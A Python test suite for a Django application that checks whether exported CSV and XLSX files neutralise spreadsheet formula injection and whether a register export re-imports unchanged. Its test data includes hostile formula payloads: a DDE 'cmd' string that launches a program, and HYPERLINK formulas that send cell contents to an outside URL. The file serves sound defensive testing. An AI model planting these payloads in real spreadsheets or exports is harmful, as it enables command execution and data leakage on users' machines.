"""Downloads are inert: a value starting with =, +, -, @, tab or CR never becomes a formula in
any CSV or XLSX Lägesbild writes; numbers stay numbers; the register round trip is lossless."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import Workbook, load_workbook

from lagesbild.core.exports import csv_cell, csv_cell_read, workbook_inert

ROOT = Path(__file__).resolve().parents[3]
HOSTILE = [
    '=HYPERLINK("http://example.org/?x="&A1,"klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=redan citerad",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_escapes_and_reads_back_exactly(text):
    escaped = csv_cell(text)
    assert escaped.startswith("'")
    assert csv_cell_read(escaped) == text


@pytest.mark.parametrize("value", [-5, -1.5, 0, "-5", "-1,5", "-1 613", "+46", "vanlig text", ""])
def test_numbers_and_plain_text_are_left_alone(value):
    assert csv_cell(value) == value
    assert csv_cell_read(str(value)) == str(value)


def test_xlsx_text_is_stored_as_text_and_numbers_as_numbers():
    wb = Workbook()
    wb.active.append([*HOSTILE, -5, 2.5])
    workbook_inert(wb)
    buf = io.BytesIO()
    wb.save(buf)
    _assert_inert_xlsx(buf.getvalue())
    row = next(load_workbook(buf).active.iter_rows(values_only=True))
    assert list(row) == [*HOSTILE, -5, 2.5]  # text unchanged, numbers numeric


def _assert_inert_xlsx(data: bytes) -> None:
    """No cell of any sheet is a formula, and every risky text is marked quotePrefix."""
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                    if not re.fullmatch(r"-?[0-9 ,.]+", cell.value):
                        assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} not quoted"


def _assert_inert_csv(data: bytes, delimiter: str = ",") -> None:
    text = data.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                raise AssertionError(f"live formula in CSV: {cell!r}")
            if cell[:1] == "-":
                assert re.fullmatch(r"-[0-9 ,.]+", cell), cell


@pytest.mark.django_db
def test_indicator_downloads_are_inert(build):
    from lagesbild.indicators.models import Observation

    indicator = build.indicator(
        "T1",
        values={"2023": 31, "2024": None},
        name="=cmd|' /C calc'!A0",
        source="@SUM(1+1)",
        definition="+HYPERLINK(1)",
    )
    Observation.objects.filter(indicator=indicator, value__isnull=True).update(
        missing_reason='=HYPERLINK("http://example.org","x")', source_ref="-2+3"
    )
    client = Client()
    xlsx = client.get("/indikator/T1/data.xlsx")
    assert xlsx.status_code == 200
    _assert_inert_xlsx(xlsx.content)
    assert b"HYPERLINK" in xlsx.content or "HYPERLINK" in str(
        [c.value for c in load_workbook(io.BytesIO(xlsx.content))["Data"][3]]
    )
    for sep, delimiter in (("comma", ","), ("semicolon", ";")):
        response = client.get(f"/indikator/T1/data.csv?separator={sep}")
        assert response.status_code == 200
        assert "'=HYPERLINK" in response.content.decode("utf-8-sig")
        _assert_inert_csv(response.content, delimiter)


@pytest.fixture
def hostile_register(db, coordinator):
    """The Stockholm configuration, the demo register and entries named like formulas."""
    from lagesbild.directory.demo import FILE_NAME
    from lagesbild.directory.models import SupportService
    from lagesbild.directory.services import register_import_file
    from lagesbild.strategy.loader import load_config

    data_dir = ROOT / "data" / "stockholm"
    load_config(data_dir)
    register_import_file(path=data_dir / FILE_NAME, reason="Demodata")
    for service, text in zip(SupportService.objects.order_by("key"), HOSTILE, strict=False):
        service.name = text
        service.description = text
        service.note = f"-{text}"
        service.save()
    return coordinator


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_register_export_is_inert_and_reimports_with_nothing_changed(hostile_register, fmt):
    from lagesbild.directory.models import SupportService
    from lagesbild.directory.selectors import register_all
    from lagesbild.directory.tabular import service_to_row

    client = Client()
    client.force_login(hostile_register)
    response = client.get(f"/stod/hantera/export.{fmt}")
    assert response.status_code == 200
    if fmt == "xlsx":
        _assert_inert_xlsx(response.content)
    else:
        _assert_inert_csv(response.content)
    before = [service_to_row(s) for s in register_all()]
    history = SupportService.history.count()
    response = client.post(
        "/stod/hantera/import/",
        {"file": SimpleUploadedFile(f"export.{fmt}", response.content), "reason": "Tillbaka"},
        follow=True,
    )
    assert response.status_code == 200, response.content.decode()[:2000]
    assert "inget ändrat" in response.content.decode()
    assert [service_to_row(s) for s in register_all()] == before
    assert SupportService.history.count() == history


def test_every_writer_makes_its_cells_inert():
    """Each module that saves a workbook or writes CSV goes through lagesbild.core.exports."""
    offenders = []
    for path in (ROOT / "lagesbild").rglob("*.py"):
        if "tests" in path.parts or path.name == "exports.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bwb\.save\(|\.save\(buf\)|\.save\(out\)", text) and "Workbook(" in text:
            if "workbook_inert(" not in text:
                offenders.append(f"{path}: workbook saved without workbook_inert")
        if re.search(r"csv\.(writer|DictWriter)\(", text) and not re.search(
            r"csv_row\(|csv_dict\(", text
        ):
            offenders.append(f"{path}: CSV written without csv_row/csv_dict")
    assert offenders == []
